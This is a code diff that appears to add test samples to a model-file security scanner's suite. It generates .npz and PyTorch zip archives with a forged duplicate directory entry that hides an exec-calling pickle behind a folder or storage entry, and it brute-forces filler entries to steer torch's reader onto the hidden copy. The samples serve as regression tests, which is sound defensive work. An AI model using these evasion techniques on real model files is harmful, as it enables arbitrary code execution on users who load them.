@@ -57,6 +57,7 @@ LOADERS = {
     "np.load-npz": (
         "import numpy,sys; z=numpy.load(sys.argv[1], allow_pickle=True)\nfor k in z.files: z[k]"
     ),
+    "np.load-npz[x]": "import numpy,sys; numpy.load(sys.argv[1], allow_pickle=True)['x']",
     "jinja2.render": (
         "import jinja2,sys; jinja2.Template(open(sys.argv[1]).read())"
         ".render(messages=[{'role': 'user', 'content': 'hi'}])"
@@ -595,6 +596,94 @@ def gen_torch_export_aliased_from_file(d: Path, marker: Path):
     return path, "torch.export.load+call"
 
 
+def _zip_with_twin(
+    entries: list[tuple[str, bytes]], cover: int, twin: str, local_twin: bool = False
+) -> bytes:
+    """A stored zip of ``entries`` plus one more central-directory entry named ``twin`` that
+    points at entry ``cover``'s local header (same bytes, sizes and method): no writer makes
+    one, and a reader looking ``twin`` up gets ``cover``'s bytes (``local_twin``: that local
+    header carries the twin's name, which zipfile checks when it opens the twin)."""
+    import zlib
+
+    def fields(data: bytes, name: bytes) -> tuple:  # crc, sizes, name length, extra length
+        return (zlib.crc32(data), len(data), len(data), len(name), 0)
+
+    out, directory, offsets = bytearray(), [], []
+    for i, (name, data) in enumerate(entries):
+        local = (twin if local_twin and i == cover else name).encode()
+        offsets.append(len(out))
+        out += struct.pack("<4sHHHHH", b"PK\x03\x04", 20, 0, 0, 0, 0)
+        out += struct.pack("<IIIHH", *fields(data, local)) + local + data
+    for name, data, offset in [
+        *zip(*zip(*entries), offsets),
+        (twin, entries[cover][1], offsets[cover]),
+    ]:
+        raw = name.encode()
+        directory.append(
+            struct.pack("<4sHHHHHH", b"PK\x01\x02", 20, 20, 0, 0, 0, 0)
+            + struct.pack("<IIIHH", *fields(data, raw))
+            + struct.pack("<HHHII", 0, 0, 0, 0, offset)
+            + raw
+        )
+    start, cd, n = len(out), b"".join(directory), len(directory)
+    out += cd + struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, n, n, len(cd), start, 0)
+    return bytes(out)
+
+
+def gen_npz_twin_entry_behind_a_folder(d: Path, marker: Path):
+    """An .npz whose ``x.npy`` (an object array: a pickle) is a second directory entry for the
+    local header of a folder entry ``d/``: the scan's union of both directories folded the
+    two into one member named ``d/`` (a folder: skipped); numpy opens ``x.npy`` by name."""
+    import numpy as np
+
+    class P:
+        def __reduce__(self):
+            return (exec, (_exec_src(marker),))
+
+    evil, clean = io.BytesIO(), io.BytesIO()
+    arr = np.empty(1, dtype=object)
+    arr[0] = P()
+    np.lib.format.write_array(evil, arr, allow_pickle=True)
+    np.lib.format.write_array(clean, np.zeros(3))
+    path = d / "weights.npz"
+    path.write_bytes(
+        _zip_with_twin(
+            [("w.npy", clean.getvalue()), ("d/", evil.getvalue())], 1, "x.npy", local_twin=True
+        )
+    )
+    return path, "np.load-npz[x]"
+
+
+def gen_torch_zip_twin_data_pkl_behind_a_storage(d: Path, marker: Path):
+    """A torch zip with a benign ``archive/data.pkl`` and a second one: a directory entry
+    for the local header of a storage record (raw bytes the scan skips).  torch's miniz
+    finds names by binary search over the sorted directory, and filler entries steer it
+    onto the twin; the scan's union of both directories folded the twin into the storage."""
+    import torch
+
+    clean = d / "clean.pt"
+    torch.save({"w": torch.zeros(3)}, clean)
+    with zipfile.ZipFile(clean) as zf:
+        base = [("archive/" + i.filename.split("/", 1)[1], zf.read(i)) for i in zf.infolist()]
+    clean.unlink()
+    evil = payload_pickle(marker)
+    for before in range(8):
+        for after in range(8):
+            entries = [
+                *base,
+                ("archive/data/1", evil),
+                *[(f"archive/aa{i}", b"x") for i in range(before)],
+                *[(f"archive/zz{i}", b"x") for i in range(after)],
+            ]
+            raw = _zip_with_twin(entries, len(base), "archive/data.pkl")
+            reader = torch._C.PyTorchFileReader(io.BytesIO(raw))
+            if bytes(reader.get_record("data.pkl")) == evil:
+                path = d / "model.pt"
+                path.write_bytes(raw)
+                return path, "torch.load"
+    raise AssertionError("no filler count steers torch's reader onto the twin")
+
+
 # per class: name -> marks (an xfail mark names a live miss the lead has not fixed yet;
 # samples without one are attacks keishiki already catches, kept as regression tests)
 PICKLE_SAMPLES = {
@@ -616,6 +705,9 @@ JOBLIB_SAMPLES = {  # all caught: the dtype is built as numpy builds it, the wra
     "joblib_wrapper_via_reconstructor": [],
 }
 ZIP_SAMPLES = {
+    # round 3: a second directory entry for another entry's local header
+    "npz_twin_entry_behind_a_folder": [],
+    "torch_zip_twin_data_pkl_behind_a_storage": [],
     # round 3: a lexer differential in TorchScript code, an aliased op in a torch.export graph
     "torchscript_cr_ends_the_comment_for_python_only": [],
     "torch_export_aliased_from_file": [],
